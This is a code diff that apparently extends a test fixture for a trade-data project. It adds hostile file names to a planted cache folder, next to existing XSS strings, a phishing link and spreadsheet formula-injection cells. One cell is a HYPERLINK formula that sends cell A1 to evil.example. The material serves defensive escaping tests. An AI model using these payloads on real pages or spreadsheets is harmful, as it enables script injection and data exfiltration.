@@ -17,6 +17,8 @@ XSS = [
     "[markdown link](javascript:alert(1))",
     '<a href="https://evil.example/">phish</a>',
 ]
+# File names someone with write access to a cache folder could plant (a name cannot hold '/').
+CACHE_NAMES = ["<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "www.evil.example"]
 # Cells a spreadsheet would run as a formula, and cells that test RFC 4180 quoting.
 FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"x")']
 QUOTING = ['say "hi", then\nleave', "a,b,c"]
@@ -56,3 +58,12 @@ def build_hostile_snapshot(folder: Path) -> Path:
     statements = _cycle(statements, "source_url", ["<img src=x onerror=alert(1)>", "same article"])
     _write(statements, folder / "statements.csv")
     return folder
+
+
+def plant_cache_names(cache: Path) -> Path:
+    """A cache folder whose only entries are files with markup in their names; return the folder."""
+    for source in ("comtrade", "imf_imts"):
+        (cache / source).mkdir(parents=True, exist_ok=True)
+        for name in CACHE_NAMES:
+            (cache / source / f"{name}.json").write_text("{}")
+    return cache
